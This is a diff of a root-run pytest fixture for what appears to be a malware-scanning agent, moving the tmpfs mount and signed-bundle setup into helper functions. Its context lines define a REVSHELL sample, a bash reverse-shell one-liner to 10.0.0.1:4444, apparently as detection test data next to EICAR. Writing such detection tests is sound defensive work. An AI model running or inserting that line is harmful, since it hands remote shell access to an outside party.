@@ -20,9 +20,10 @@ import time
 
 import pytest
 
-from agentlib import (DEFAULT_SRC, EICAR_RULE, Agent, Keys, assemble, key_id, manifest_for,
-                      openssl_sign, read_journal, wait_events, wardd_path)
+from agentlib import (DEFAULT_SRC, EICAR_RULE, Agent, assemble, default_content, key_id,
+                      manifest_for, openssl_sign, read_journal, wait_events, wardd_path)
 from conftest import EICAR
+from userlib import own_tmpfs
 
 EICAR_SHA = hashlib.sha256(EICAR).hexdigest()
 REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
@@ -32,16 +33,12 @@ REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
 def box(ward, tmp_path):
     if os.geteuid() != 0:
         pytest.fail("the exception tests run as root (make check runs them so)", pytrace=False)
-    mnt = tmp_path / "mnt"
-    mnt.mkdir()
-    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m,mode=0755", "wardexc", str(mnt)],
-                   check=True)
-    assert os.path.ismount(mnt), "refusing to go on: %s is not the test's own mount" % mnt
-    keys = Keys(ward, str(tmp_path / "keys"))
-    rel = keys.make("release")
-    v1 = str(tmp_path / "v1.wbundle")
-    assert ward.run("content", "build", DEFAULT_SRC, "-o", v1).returncode == 0
-    assert ward.run("content", "sign", v1, "--key", rel[0]).returncode == 0
+    with own_tmpfs(tmp_path / "mnt", "64m") as mnt:
+        yield from _box(ward, tmp_path, mnt)
+
+
+def _box(ward, tmp_path, mnt):
+    rel, v1 = default_content(ward, tmp_path)
     agents = []
 
     class Box:
@@ -66,7 +63,6 @@ def box(ward, tmp_path):
     yield b
     for a in agents:
         a.stop()
-    subprocess.run(["umount", str(mnt)], check=True)
 
 
 def events(a, action):
